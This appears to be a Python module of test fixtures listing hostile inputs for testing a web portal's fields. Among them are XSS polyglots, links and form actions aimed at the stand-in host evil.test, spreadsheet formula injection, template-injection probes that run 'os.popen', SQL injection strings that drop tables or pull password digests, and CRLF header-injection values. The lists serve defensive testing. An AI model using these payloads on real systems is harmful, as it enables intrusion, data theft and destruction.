"""What attackers type: one list each, so that every test of a field tries the same things.

`SEEDED` are the two that a portal's own comment screen was probed with (AD-15); `POLYGLOTS` end as many contexts as
they can at once; `INJECTIONS` are for SQL; `TEMPLATES` for template engines; `UNSTORABLE` is what the two databases
disagree about (T25).
"""

from typing import Final

SEEDED: Final = (
    "<script>alert(1)</script>",
    ";alert(1)//</xmp><script>alert(1)</script>",
)

POLYGLOTS: Final = (
    *SEEDED,
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    '<a href="javascript:alert(1)">x</a>',
    "<form action=//evil.test><button>x",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<img src='//evil.test/x.png'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.test/x.swf>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    " autofocus onfocus=alert(1) x=",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "'\"`><img/src/onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "[click](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    "https://evil.test/reset?token=1",
    "www.evil.test",
    "<b>bold</b>",
    '=HYPERLINK("https://evil.test","x")',
    "+1+cmd|'/C calc'!A0",
    "@SUM(1+1)",
    '<!--#exec cmd="/bin/true"-->',
    "<?php echo 1 ?>",
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "\u202ealert\u202c(1)",
    "<\u200bscript>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)

TEMPLATES: Final = (
    "{{7*7}}",
    "{{ config.items() }}",
    "{% for x in [7] %}{{x*7}}{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{# gone #}",
    "%(secret)s",
    "{0.__class__}",
    "$secret",
)

INJECTIONS: Final = (
    "'",
    '"',
    "' OR '1'='1",
    "' OR 1=1--",
    '") OR ("1"="1',
    "'; DROP TABLE subject;--",
    "1; SELECT pg_sleep(10)--",
    "'||(SELECT pg_sleep(10))||'",
    "' UNION SELECT digest FROM password_credential--",
    "admin'/*",
    "\\'; --",
    "%' ESCAPE '!",
    "1) ORDER BY 99--",
    "id; SELECT 1",
    "$$; SELECT 1; $$",
    '{"$ne": null}',
    "$.a'); SELECT 1--",
    "CASE WHEN 1=1 THEN 1 ELSE randomblob(100000000) END",
    ":x",
    "%s",
    "?",
)

CRLF: Final = (
    "x\r\nSet-Cookie: planted=1",
    "x\nSet-Cookie: planted=1",
    "x\rSet-Cookie: planted=1",
    "x%0d%0aSet-Cookie:%20planted=1",
    "x\u560a\u560dSet-Cookie: planted=1",
    "x\x85Set-Cookie: planted=1",
    "x\u2028Set-Cookie: planted=1",
)

UNSTORABLE: Final = {
    "NUL": "a\x00b",
    "escape": "a\x1bb",
    "DEL": "a\x7fb",
    "over-long": "x" * 20_000,
}
"""A lone surrogate cannot travel in a decoded form: `SURROGATE` is its bytes."""
SURROGATE: Final = "%ED%A0%80"
